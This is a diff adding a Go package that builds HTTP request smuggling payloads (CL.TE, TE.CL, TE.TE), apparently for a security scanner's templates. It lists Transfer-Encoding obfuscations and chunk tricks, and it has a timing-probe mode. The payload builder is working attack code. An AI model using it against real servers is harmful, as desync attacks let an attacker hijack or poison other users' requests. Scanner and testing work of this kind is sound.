@@ -0,0 +1,220 @@
+// Package smuggling builds the desync payloads of the http request smuggling templates
+package smuggling
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"net/http"
+	"os"
+	"strconv"
+	"strings"
+
+	"github.com/pkg/errors"
+)
+
+// desync techniques
+const (
+	// CLTE makes the front-end use the Content-Length and the back-end the Transfer-Encoding
+	CLTE = "cl.te"
+	// TECL makes the front-end use the Transfer-Encoding and the back-end the Content-Length
+	TECL = "te.cl"
+	// TETE hides an obfuscated Transfer-Encoding from one of the servers
+	TETE = "te.te"
+)
+
+// obfuscations is the Transfer-Encoding header of every obfuscation
+var obfuscations = map[string]string{
+	"":              "Transfer-Encoding: chunked",
+	"space":         "Transfer-Encoding : chunked",
+	"leading-space": " Transfer-Encoding: chunked",
+	"tab":           "Transfer-Encoding:\tchunked",
+	"vertical-tab":  "Transfer-Encoding:\x0bchunked",
+	"line-folding":  "Transfer-Encoding:\r\n chunked",
+	"case":          "Transfer-encoding: cHuNkEd",
+	"quoted":        "Transfer-Encoding: \"chunked\"",
+	"xchunked":      "Transfer-Encoding: xchunked",
+	"duplicate":     "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
+}
+
+// lineEndings are the line terminators of the chunks
+var lineEndings = map[string]string{
+	"":     "\r\n",
+	"crlf": "\r\n",
+	"lf":   "\n",
+	"cr":   "\r",
+}
+
+// Config contains the desync payload of a raw unsafe request.
+//
+// The Content-Length and Transfer-Encoding headers of the raw request are
+// replaced with the headers of the technique and the body with the payload.
+type Config struct {
+	// description: |
+	//   Technique is the desync technique of the payload.
+	// values:
+	//   - "cl.te"
+	//   - "te.cl"
+	//   - "te.te"
+	Technique string `yaml:"technique,omitempty" json:"technique,omitempty" jsonschema:"title=desync technique,description=Desync technique of the payload,enum=cl.te,enum=te.cl,enum=te.te"`
+	// description: |
+	//   Smuggled is the data smuggled to the back-end, prefixing the next request.
+	// examples:
+	//   - value: "\"GPOST / HTTP/1.1\\r\\nFoo: x\""
+	Smuggled string `yaml:"smuggled,omitempty" json:"smuggled,omitempty" jsonschema:"title=smuggled data,description=Data smuggled to the back-end prefixing the next request"`
+	// description: |
+	//   TEObfuscation is the obfuscation of the Transfer-Encoding header.
+	//
+	//   te.te sends an obfuscated header after a regular one, duplicate is used if empty.
+	// values:
+	//   - "space"
+	//   - "leading-space"
+	//   - "tab"
+	//   - "vertical-tab"
+	//   - "line-folding"
+	//   - "case"
+	//   - "quoted"
+	//   - "xchunked"
+	//   - "duplicate"
+	TEObfuscation string `yaml:"te-obfuscation,omitempty" json:"te-obfuscation,omitempty" jsonschema:"title=transfer-encoding obfuscation,description=Obfuscation of the Transfer-Encoding header,enum=space,enum=leading-space,enum=tab,enum=vertical-tab,enum=line-folding,enum=case,enum=quoted,enum=xchunked,enum=duplicate"`
+	// description: |
+	//   ChunkExtension is appended to the sizes of the chunks.
+	// examples:
+	//   - value: "\";ext=1\""
+	ChunkExtension string `yaml:"chunk-extension,omitempty" json:"chunk-extension,omitempty" jsonschema:"title=chunk extension,description=Extension appended to the sizes of the chunks"`
+	// description: |
+	//   ChunkSizePadding is the number of leading zeros of the sizes of the chunks.
+	ChunkSizePadding int `yaml:"chunk-size-padding,omitempty" json:"chunk-size-padding,omitempty" jsonschema:"title=chunk size padding,description=Number of leading zeros of the sizes of the chunks"`
+	// description: |
+	//   ChunkLineEnding is the line terminator of the chunks.
+	// values:
+	//   - "crlf"
+	//   - "lf"
+	//   - "cr"
+	ChunkLineEnding string `yaml:"chunk-line-ending,omitempty" json:"chunk-line-ending,omitempty" jsonschema:"title=chunk line ending,description=Line terminator of the chunks,enum=crlf,enum=lf,enum=cr"`
+	// description: |
+	//   Timing sends the timing probe of the technique instead of the attack.
+	//
+	//   The back-end of a vulnerable target waits for the rest of the probe, the timed out
+	//   probes are matched with an empty response and their duration.
+	Timing bool `yaml:"timing,omitempty" json:"timing,omitempty" jsonschema:"title=timing probe,description=Sends the timing probe of the technique instead of the attack"`
+}
+
+// Validate validates the technique and the anomalies of the config
+func (c *Config) Validate() error {
+	switch c.Technique {
+	case CLTE, TECL, TETE:
+	default:
+		return errors.Errorf("invalid technique %q", c.Technique)
+	}
+	if _, ok := obfuscations[c.TEObfuscation]; !ok {
+		return errors.Errorf("invalid te-obfuscation %q", c.TEObfuscation)
+	}
+	if _, ok := lineEndings[c.ChunkLineEnding]; !ok {
+		return errors.Errorf("invalid chunk-line-ending %q", c.ChunkLineEnding)
+	}
+	if c.ChunkSizePadding < 0 {
+		return errors.Errorf("invalid chunk-size-padding %d", c.ChunkSizePadding)
+	}
+	if c.Smuggled == "" && !c.Timing {
+		return errors.New("smuggled is required unless timing is enabled")
+	}
+	return nil
+}
+
+// Build returns the raw request with the headers and the body of the desync payload,
+// the smuggled data is given after the evaluation of its variables
+func (c *Config) Build(rawRequest []byte, smuggled string) []byte {
+	head := rawRequest
+	if end := bytes.Index(rawRequest, []byte("\r\n\r\n")); end != -1 {
+		head = rawRequest[:end]
+	}
+	head = bytes.TrimRight(head, "\r\n")
+
+	buf := &bytes.Buffer{}
+	for i, line := range bytes.Split(head, []byte("\r\n")) {
+		name, _, _ := bytes.Cut(line, []byte(":"))
+		name = bytes.TrimSpace(name)
+		if i > 0 && (bytes.EqualFold(name, []byte("Content-Length")) || bytes.EqualFold(name, []byte("Transfer-Encoding"))) {
+			continue
+		}
+		buf.Write(line)
+		buf.WriteString("\r\n")
+	}
+
+	body, contentLength := c.payload(smuggled)
+	buf.WriteString("Content-Length: " + strconv.Itoa(contentLength) + "\r\n")
+	if c.Technique == TETE {
+		buf.WriteString(obfuscations[""] + "\r\n")
+		obfuscation := c.TEObfuscation
+		if obfuscation == "" {
+			obfuscation = "duplicate"
+		}
+		buf.WriteString(obfuscations[obfuscation] + "\r\n")
+	} else {
+		buf.WriteString(obfuscations[c.TEObfuscation] + "\r\n")
+	}
+	buf.WriteString("\r\n")
+	buf.WriteString(body)
+	return buf.Bytes()
+}
+
+// payload returns the body of the technique and its Content-Length
+func (c *Config) payload(smuggled string) (string, int) {
+	eol := lineEndings[c.ChunkLineEnding]
+	last := c.chunkSize(0) + eol + eol
+
+	// the front-end uses the Content-Length of cl.te
+	if c.Technique == CLTE {
+		if c.Timing {
+			// the back-end waits for the chunk following the Content-Length
+			body := c.chunkSize(1) + eol + "A" + eol + "X"
+			return body, len(body) - len(eol) - 1
+		}
+		body := last + smuggled
+		return body, len(body)
+	}
+
+	// the back-end uses the Content-Length of te.cl and te.te
+	if c.Timing {
+		// the back-end waits for the byte not forwarded after the last chunk
+		body := last + "X"
+		return body, len(body)
+	}
+	size := c.chunkSize(len(smuggled)) + eol
+	return size + smuggled + eol + last, len(size)
+}
+
+// chunkSize returns the size line of a chunk without line terminator
+func (c *Config) chunkSize(size int) string {
+	return fmt.Sprintf("%0*x", c.ChunkSizePadding+len(strconv.FormatInt(int64(size), 16)), size) + c.ChunkExtension
+}
+
+// NormalizeLineEndings terminates the lines of the smuggled data with CRLF
+// when no CRLF is present, like the raw requests of the templates
+func NormalizeLineEndings(value string) string {
+	if strings.Contains(value, "\r\n") {
+		return value
+	}
+	return strings.ReplaceAll(value, "\n", "\r\n")
+}
+
+// IsTimeout returns true if the error is the timeout of a request
+func IsTimeout(err error) bool {
+	var netErr net.Error
+	if errors.As(err, &netErr) && netErr.Timeout() || errors.Is(err, os.ErrDeadlineExceeded) {
+		return true
+	}
+	return strings.Contains(strings.ToLower(err.Error()), "timeout")
+}
+
+// TimeoutResponse returns the empty response of the timed out timing probes
+func TimeoutResponse() *http.Response {
+	return &http.Response{
+		Proto:      "HTTP/1.1",
+		ProtoMajor: 1,
+		ProtoMinor: 1,
+		Header:     http.Header{},
+		Body:       http.NoBody,
+	}
+}